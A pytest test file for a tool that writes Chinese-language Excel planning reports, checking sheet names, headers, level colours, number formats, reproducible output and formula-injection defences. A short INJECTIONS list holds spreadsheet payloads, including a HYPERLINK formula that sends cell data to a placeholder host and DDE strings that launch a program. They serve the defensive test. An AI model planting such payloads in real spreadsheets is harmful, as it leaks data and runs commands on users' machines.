"""report.xlsx: a workbook a Chinese bureau can circulate — Chinese sheets, headers and levels, rounded
figures, and no text that a spreadsheet would run as a formula."""

from __future__ import annotations

import dataclasses
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from planwatch.report import LEVELS
from planwatch.report.fixtures import example_context
from planwatch.report.xlsx import write_xlsx

SHEETS = ["看板", "问题清单", "评估结果", "相关统计", "空间规则", "分区数值", "预测与回测", "数据覆盖", "观测数据", "指标目标",
          "数据来源"]  # fmt: skip
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CJK = re.compile(r"[\u3400-\u9fff]")

# A district table and a station table shaped as report.build lays them out (numbers as text).
STATION_TABLE = {
    "title": "轨道站点800米覆盖（直线距离）：各区排名",
    "columns": ["排名", "区", "面积（平方公里）", "站点800米内面积（平方公里）", "覆盖比例", "站点数"],
    "rows": [[1, "东城区", "42.0", "36.2", "86.1%", 33], ["", "全市", "16407.8", "664.5", "4.0%", 401]],
    "caption": "测试用表注：各区面积中距最近轨道站点直线距离不超过800米的部分。",
}
DISTRICT_TABLE = {
    "title": "空间指标各区数值（括号内为各区排名，数值越大排名越前）",
    "columns": ["区", "平原地区开发强度（%）"],
    "rows": [["东城区", "71.6（2）"], ["延庆区", "—"]],
    "caption": "测试用表注：由一张图图层计算。",
    "synthetic": True,
}
RULES = pd.DataFrame([
    {"id": "R01", "article": 56, "category": "创新", "description": "新供应产业用地70%以上安排在生产空间引导区内",
     "target": "A56.1", "year": 2022, "value": 72.3456, "unit": "%", "threshold": 70.0, "comparator": ">=",
     "tolerance": 0.0, "synthetic": False, "level": "green", "status_text": "符合", "reason": "测试用说明"},
    {"id": "R04", "article": 26, "category": "协调", "description": "战略留白用地原则上2035年前不予启用实施",
     "target": "", "year": 2022, "value": 1.0, "unit": "处", "threshold": 0.0, "comparator": "==",
     "tolerance": 0.0, "synthetic": False, "level": "red", "status_text": "不符合", "reason": "测试用说明"},
])  # fmt: skip


@pytest.fixture(scope="module")
def ctx():
    return example_context()


@pytest.fixture(scope="module")
def wb(ctx, tmp_path_factory):
    return load_workbook(write_xlsx(ctx, tmp_path_factory.mktemp("xlsx") / "report.xlsx"))


@pytest.fixture(scope="module")
def wb_spatial(ctx, tmp_path_factory):
    """The example context with a station table, a district table and two spatial rules."""
    spatial = dataclasses.replace(
        ctx, maps=({"title": "一张图", "caption": "", "table": STATION_TABLE},), districts=(DISTRICT_TABLE,), rules=RULES
    )
    return load_workbook(write_xlsx(spatial, tmp_path_factory.mktemp("xlsx") / "report.xlsx"))


def header_cells(ws) -> list:
    """The header cells: bold on the header fill."""
    return [c for row in ws.iter_rows() for c in row if c.font.b and c.fill.fgColor.rgb.endswith("ECEFF1")]


def table(ws, header_row: int = 1) -> pd.DataFrame:
    """The cells under one header row, by header, down to the first blank row."""
    heads = [c.value for c in ws[header_row] if c.value is not None]
    rows = []
    for row in ws.iter_rows(min_row=header_row + 1, max_col=len(heads)):
        if all(c.value is None for c in row):
            break
        rows.append(list(row))
    return pd.DataFrame(rows, columns=heads)


def test_the_workbook_has_the_chinese_sheets_in_reading_order(wb):
    assert wb.sheetnames == SHEETS


def test_every_header_is_chinese(wb, wb_spatial):
    for book in (wb, wb_spatial):
        for ws in book.worksheets:
            heads = header_cells(ws)
            if ws.title != "分区数值" or book is wb_spatial:
                assert heads, ws.title
            ascii_only = [c.value for c in heads if not CJK.search(str(c.value))]
            assert not ascii_only, (ws.title, ascii_only)
    names = {ws.title: [c.value for c in ws[1]] for ws in wb.worksheets}
    assert names["评估结果"][:8] == ["编号", "指标", "分类", "地域", "数据年份", "数值", "单位", "等级"]
    assert {"评估说明", "评估方法", "出处", "来源", "数值（未修约）"} <= set(names["评估结果"])
    assert {"来源", "发布日期", "口径一致", "示意数据", "数据类型", "备注"} <= set(names["观测数据"])
    assert {"出处", "原文摘录", "2025年目标（原文）", "2035年目标值"} <= set(names["指标目标"])


def test_levels_are_chinese_on_their_colour(ctx, wb):
    ev = table(wb["评估结果"])
    assert [c.value for c in ev["等级"]] == [LEVELS[lv][0] for lv in ctx.evaluation["level"]]
    for cell, lv in zip(ev["等级"], ctx.evaluation["level"], strict=True):
        assert cell.fill.fill_type == "solid"
        assert cell.fill.fgColor.rgb[-6:] == LEVELS[lv][1].lstrip("#").upper()
    board = table(wb["看板"])
    assert [c.value for c in board["分类等级"]] == [LEVELS[lv][0] for lv in ctx.rollup["level"]]
    problems = table(wb["问题清单"])
    assert [c.value for c in problems["等级"]] == [LEVELS[lv][0] for lv in ctx.problems["level"]]


def test_no_english_codes_or_booleans_reach_a_cell(wb):
    codes = {"green", "yellow", "red", "grey", "True", "False", "official", "computed", "statistics", "linear_ols",
             "increase", "decrease", "ceiling", "floor", "level", "target_achieved"}  # fmt: skip
    found = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value in codes]  # fmt: skip
    assert not found
    obs = table(wb["观测数据"])
    assert {c.value for c in obs["口径一致"]} <= {"是", "否"} and {c.value for c in obs["数据类型"]} == {"官方发布"}
    assert {c.value for c in obs["获取方式"]} == {"统计数据"}


def test_the_board_sheet_states_its_rule_under_the_table(ctx, wb):
    ws = wb["看板"]
    n = len(ctx.rollup)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:G{n + 1}"
    below = [ws.cell(row=r, column=1).value for r in range(n + 2, ws.max_row + 1)]
    assert below == [None, ctx.rollup_rule, *ctx.notes]  # a blank row keeps the sentences out of the table


def test_figures_are_numbers_shown_with_their_published_digits(ctx, wb):
    ev = table(wb["评估结果"])
    for cell, raw, text, value in zip(ev["数值"], ev["数值（未修约）"], ctx.evaluation["value_text"],
                                      ctx.evaluation["value"], strict=True):  # fmt: skip
        digits = len(text.split(".")[1]) if "." in text else 0
        assert cell.data_type == "n" and cell.value == pytest.approx(float(text))
        assert cell.number_format == ("0" if digits == 0 else "0." + "0" * digits)
        assert raw.value == pytest.approx(value)
    t01 = ev[[c.value == "T01" for c in ev["编号"]]].iloc[0]
    assert t01["数值"].number_format == "0.00"  # 6.53
    tp_task = ctx.evaluation.set_index("id").loc["T01", "tp_task"]
    assert t01["任务进度"].number_format == "0.0%" and t01["任务进度"].value == round(tp_task, 6)
    assert t01["较上期变化"].value == 0.09 and t01["较上期变化"].number_format == "0.00"  # 6.53 − 6.44, no float noise


def test_forecasts_are_rounded_to_the_digits_of_the_figure_they_extend(ctx, wb):
    ws = wb["预测与回测"]
    fc = table(ws)
    digits = {r.id: len(r.value_text.split(".")[1]) if "." in r.value_text else 0 for r in ctx.evaluation.itertuples()}
    assert len(fc) == int(ctx.evaluation["n_points"].notna().sum()) > 0
    for _, row in fc.iterrows():
        cell = row["2025年预测值"]
        d = digits[row["编号"].value]
        assert cell.data_type == "n" and cell.number_format == ("0" if d == 0 else "0." + "0" * d)
        assert cell.value == round(cell.value, 6)  # stored without float noise (2177.900000000001 -> 2177.9)
    t05 = fc[[c.value == "T05" for c in fc["编号"]]].iloc[0]
    assert t05["2025年预测值"].value == 2177.9 and t05["预测方法"].value == "线性趋势预测"
    titles = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    back = titles.index(next(t for t in titles if t and t.startswith("回测")))
    assert [c.value for c in ws[back + 2]][:4] == ["编号", "指标", "单位", "预测年份"]  # its own header


def test_an_empty_frame_keeps_its_header_and_writes_no_rows(wb):
    ws = wb["空间规则"]  # the example check-up has no spatial rules
    assert ws.max_row == 1 and [c.value for c in ws[1]][:3] == ["规则编号", "条文", "分类"]
    assert [[c.value for c in row] for row in wb["分区数值"].iter_rows()] == [["本报告无分区数值表。"]]


def test_rules_sheet_writes_articles_comparators_and_levels_in_chinese(wb_spatial):
    rules = table(wb_spatial["空间规则"])
    assert [c.value for c in rules["条文"]] == ["第56条", "第26条"]
    assert [c.value for c in rules["比较"]] == ["≥", "="]
    assert [c.value for c in rules["等级"]] == ["绿灯", "红灯"]
    assert rules["等级"][1].fill.fgColor.rgb[-6:] == LEVELS["red"][1].lstrip("#").upper()
    value = rules["数值"][0]
    assert value.value == pytest.approx(72.3456) and value.number_format == "0.0"  # a share: one decimal
    assert rules["数值"][1].number_format == "0"  # 1 处


def test_district_sheet_lays_out_every_table_with_title_and_caption(wb_spatial):
    ws = wb_spatial["分区数值"]
    col_a = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    assert col_a == [STATION_TABLE["title"], "排名", 1, None, None, STATION_TABLE["caption"], None,
                     DISTRICT_TABLE["title"], "区", "东城区", "延庆区", None, DISTRICT_TABLE["caption"]]  # fmt: skip
    assert [c.value for c in ws[2]] == STATION_TABLE["columns"]
    area, share, stations = ws["C3"], ws["E3"], ws["F3"]
    assert (area.value, area.number_format) == (42.0, "0.0")
    assert (share.value, share.number_format) == (0.861, "0.0%")
    assert (stations.value, stations.data_type) == (33, "n")
    assert ws["B10"].value == "71.6（2）" and ws["B11"].value == "—"  # value with rank stays as printed


def test_text_that_looks_like_a_formula_is_written_as_text(ctx, tmp_path):
    obs = ctx.observations.copy()
    obs["note"] = [INJECTIONS[i % len(INJECTIONS)] for i in range(len(obs))]
    obs["source"] = [INJECTIONS[(i + 1) % len(INJECTIONS)] for i in range(len(obs))]
    ev = ctx.evaluation.assign(obs_source=INJECTIONS[0], reason=INJECTIONS[1])
    sources = [s | {"source": INJECTIONS[i % len(INJECTIONS)]} for i, s in enumerate(ctx.sources)]
    bad = dataclasses.replace(ctx, observations=obs, evaluation=ev, sources=sources)
    path = write_xlsx(bad, tmp_path / "report.xlsx")

    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)
    wb = load_workbook(path)
    formulas = [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert not formulas
    back = table(wb["观测数据"])
    assert [c.value for c in back["备注"]] == list(obs["note"])
    assert [c.value for c in back["来源"]] == list(obs["source"])
    assert all(c.data_type == "s" and c.quotePrefix for c in back["备注"])  # stays text if edited in Excel
    assert [c.value for c in table(wb["数据来源"])["来源"]] == [s["source"] for s in sources]
    assert {c.value for c in table(wb["评估结果"])["评估说明"]} == {INJECTIONS[1]}


def test_the_same_context_gives_the_same_bytes_with_a_fixed_date(ctx, tmp_path):
    first = write_xlsx(ctx, tmp_path / "a.xlsx").read_bytes()
    second = write_xlsx(ctx, tmp_path / "b.xlsx").read_bytes()
    assert first == second
    props = load_workbook(tmp_path / "a.xlsx").properties
    assert props.created.year == 1980 and props.modified.year == 1980
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_context_missing_a_column_is_refused(ctx, tmp_path):
    bad = dataclasses.replace(ctx, evaluation=ctx.evaluation.drop(columns=["value_text"]))
    with pytest.raises(ValueError, match=r"evaluation.*value_text"):
        write_xlsx(bad, tmp_path / "report.xlsx")
    assert not (tmp_path / "report.xlsx").exists()
